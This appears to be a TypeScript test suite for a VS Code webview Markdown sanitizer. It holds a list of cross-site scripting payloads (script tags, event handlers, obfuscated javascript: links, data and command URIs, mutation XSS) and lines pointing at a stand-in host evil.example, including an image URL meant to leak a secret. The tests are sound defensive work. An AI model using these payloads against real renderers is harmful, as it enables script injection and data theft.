import assert from 'node:assert/strict';
import * as fc from 'fast-check';
import { GrowingDocument } from '../../webview/markdown/growingDocument.ts';
import type { Block, Inline } from '../../webview/markdown/nodes.ts';
import { visiblePath } from '../../webview/markdown/visiblePath.ts';
import { visibleText } from '../../webview/markdown/visibleText.ts';
import './lexerLoaded.ts';

function blocksOf(text: string): readonly Block[] {
  return new GrowingDocument(() => 0).update(text, true).blocks;
}

/** Every link that the host would be asked to follow. */
function hrefs(value: unknown): string[] {
  if (Array.isArray(value)) return value.flatMap(hrefs);
  if (typeof value !== 'object' || value === null) return [];
  const own = 'href' in value && typeof value.href === 'string' ? [value.href] : [];
  return [...own, ...Object.values(value).flatMap(hrefs)];
}

function firstInline(text: string): Inline | undefined {
  const [block] = blocksOf(text);
  return block?.type === 'paragraph' ? block.children[0] : undefined;
}

const followable =
  /^(?:https?:\/\/|mailto:|file:\/\/|vscode-(?:remote|vfs):\/\/|(?![a-z][a-z\d+.-]*:\D)[^\s<>"]+$)/iu;

const attacks = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<style>*{display:none}</style>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<form action="https://evil.example"><button>ok</button></form>',
  '<a href="javascript:alert(1)">x</a>',
  '<math><mtext></mtext><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](java\tscript:alert(1))',
  '[x](javascript&#58;alert(1))',
  '[x](javascript&colon;alert(1))',
  '[x](&#x6a;avascript:alert(1))',
  '[x](<javascript:alert(1)>)',
  '[x]( javascript:alert(1))',
  '[x](\u0001javascript:alert(1))',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[x](vbscript:msgbox(1))',
  '[x](command:workbench.action.terminal.new)',
  '[x](vscode://file/etc/passwd)',
  '[x](//evil.example/a)',
  '[x](\\\\evil.example\\share)',
  '<javascript:alert(1)>',
  '[x][ref]\n\n[ref]: javascript:alert(1)',
  '![x](javascript:alert(1))',
  '![x](https://evil.example/leak?secret)',
  '[![x](https://evil.example/p.png)](javascript:alert(1))',
  '| <img src=x onerror=alert(1)> |\n|--|\n| [x](javascript:alert(1)) |',
  '```html\n<script>alert(1)</script>\n```',
  '```"><script>alert(1)</script>\ncode\n```',
  '`<img src=x onerror=alert(1)>`',
  '# <svg/onload=alert(1)>',
  '- <details open ontoggle=alert(1)>',
  '> <img src=x onerror=alert(1)>',
  '**<b onmouseover=alert(1)>x</b>**',
  '<a href="https://e.example" onclick="alert(1)">[x](javascript:1)</a>',
];

describe('Markdown from outside', function () {
  this.timeout(30_000);

  it('comes out as known nodes whose links the host may follow', () => {
    const known = new Set(
      (
        'text strong emphasis strike kbd sub sup code break link inert math ' +
        'paragraph line heading quote list table rule plain'
      ).split(' '),
    );
    const types = (value: unknown): string[] => {
      if (Array.isArray(value)) return value.flatMap(types);
      if (typeof value !== 'object' || value === null) return [];
      const own = 'type' in value && typeof value.type === 'string' ? [value.type] : [];
      return [...own, ...Object.values(value).flatMap(types)];
    };
    const pieces = fc.array(fc.oneof(fc.constantFrom(...attacks), fc.string({ maxLength: 12 })));
    fc.assert(
      fc.property(pieces, (parts) => {
        const blocks = blocksOf(parts.join('\n'));
        for (const type of types(blocks)) assert.ok(known.has(type), type);
        for (const href of hrefs(blocks)) assert.match(href, followable);
      }),
      { numRuns: 500 },
    );
  });

  for (const attack of attacks) {
    it(`is inert, in small pieces as well: ${JSON.stringify(attack)}`, () => {
      const document = new GrowingDocument(() => 0);
      for (let end = 0; end < attack.length; end += 3) {
        for (const href of hrefs(document.update(attack.slice(0, end), false).blocks)) {
          assert.match(href, followable);
        }
      }
      const links = hrefs(document.update(attack, true).blocks);
      assert.ok(
        !links.some((href) => /script|^data|^command|^vscode:|^\/\/|^\\/iu.test(href)),
        String(links),
      );
    });
  }

  it('takes no name that every object has for a link', () => {
    for (const name of ['constructor', '__proto__', 'toString', 'valueOf']) {
      assert.deepEqual(hrefs(blocksOf(`[x][${name}] [${name}]`)), []);
      const defined = `[x][${name}]\n\n[${name}]: https://example.org\n`;
      assert.deepEqual(hrefs(blocksOf(defined)), ['https://example.org']);
    }
  });

  it('shows raw HTML letter by letter', () => {
    assert.deepEqual(blocksOf('<img src=x onerror=alert(1)>'), [
      { type: 'plain', text: '<img src=x onerror=alert(1)>' },
    ]);
  });

  it('breaks lines, and shows keys and what stands lower or higher, where a model writes that as HTML', () => {
    const text = (each: string) => ({ type: 'text', text: each });
    const inline = (source: string): unknown => {
      const [block] = blocksOf(source);
      return block?.type === 'paragraph' ? block.children : block;
    };
    assert.deepEqual(inline('a<br>b<BR/>c'), [
      text('a'),
      { type: 'break' },
      text('b'),
      { type: 'break' },
      text('c'),
    ]);
    assert.deepEqual(inline('Press <kbd>Ctrl+**C**</kbd>, H<sub>2</sub>O, x<sup>2</sup>'), [
      text('Press '),
      {
        type: 'kbd',
        children: [text('Ctrl+'), { type: 'strong', children: [text('C')] }],
      },
      text(', H'),
      { type: 'sub', children: [text('2')] },
      text('O, x'),
      { type: 'sup', children: [text('2')] },
    ]);
    const [table] = blocksOf('| a |\n| - |\n| one<br>two |\n');
    assert.deepEqual(table?.type === 'table' && table.rows, [
      [[text('one'), { type: 'break' }, text('two')]],
    ]);
    assert.deepEqual(blocksOf('a\n\n<br>\n\nb').length, 2);
  });

  it('takes nothing else for such an element', () => {
    for (const source of [
      'a <br onclick=alert(1)> b',
      'a <kbd onclick=alert(1)>x</kbd> b',
      'a <kbd>x',
      'a </kbd> b',
      'a <b>x</b>',
      'a <sub>x</sup>',
    ]) {
      const [block] = blocksOf(source);
      assert.ok(block?.type === 'paragraph');
      assert.ok(
        block.children.every(({ type }) => type === 'text'),
        source,
      );
    }
    assert.deepEqual(firstInline('<sub>'.repeat(3) + 'x'), { type: 'text', text: '<sub>' });
  });

  it('shows where a link that is not followed would have led', () => {
    assert.deepEqual(firstInline('[click](command:evil)'), {
      type: 'inert',
      target: 'command:evil',
      children: [{ type: 'text', text: 'click' }],
    });
  });

  it('shows a picture as a link and never as a picture', () => {
    assert.deepEqual(firstInline('![a chart](https://example.org/c.png)'), {
      type: 'link',
      href: 'https://example.org/c.png',
      children: [{ type: 'text', text: 'a chart' }],
    });
  });

  it('tells the target where the text of a link claims another one', () => {
    const link = firstInline('[bank.example](https://evil.example/bank.example)');
    assert.equal(link?.type === 'link' && link.target, 'https://evil.example/bank.example');
    const honest = firstInline('[www.bank.example/a](https://bank.example/b)');
    assert.ok(honest?.type === 'link' && !('target' in honest));
  });

  it('makes characters visible that hide or reorder others', () => {
    assert.equal(
      visibleText('a\u202Eb\u200Bc\u0000d\u001B[31me\uFEFF'),
      'a[U+202E]b[U+200B]c[U+0000]d[U+001B][31me[U+FEFF]',
    );
    assert.equal(visibleText('tag \u{E0041}\u{E0042}'), 'tag [U+E0041][U+E0042]');
    assert.equal(blocksOf('x\u2066y')[0]?.type, 'paragraph');
    assert.match(JSON.stringify(blocksOf('x\u2066y')), /\[U\+2066\]/u);
  });

  it('tells a path apart that is written in letters of two alphabets', () => {
    assert.equal(visiblePath('src/cart.ts'), 'src/cart.ts');
    assert.equal(visiblePath('src/саrt.ts'), 'src/[U+0441][U+0430]rt.ts');
    assert.equal(visiblePath('сору.ts'), '[U+0441][U+043E][U+0440][U+0443].ts');
    assert.equal(visiblePath('a‮b.ts'), 'a[U+202E]b.ts');
    for (const path of ['корзина.ts', 'заказы/сумма.py', 'größe.ts', '数.ts', 'Δelta.ts', 'λ.ts'])
      assert.equal(visiblePath(path), path);
    const [block] = blocksOf('See `src/саrt.ts` and [it](src/cоrt.ts).');
    const text = JSON.stringify(block);
    assert.match(text, /src\/\[U\+0441\]\[U\+0430\]rt\.ts/u);
    assert.match(text, /src\/c\[U\+043E\]rt\.ts/u);
  });

  it('leaves text alone that only looks unusual', () => {
    for (const text of [
      '👩‍👩‍👧 🏴󠁧󠁢󠁥󠁮󠁧󠁿 ❤️ 👍🏽',
      'شما می‌خواهید',
      'नमस्ते क्‍ष',
      'עברית',
      'tab\there\nline',
      'é e\u0301 ﬁ',
    ]) {
      assert.equal(visibleText(text), text);
    }
  });
});
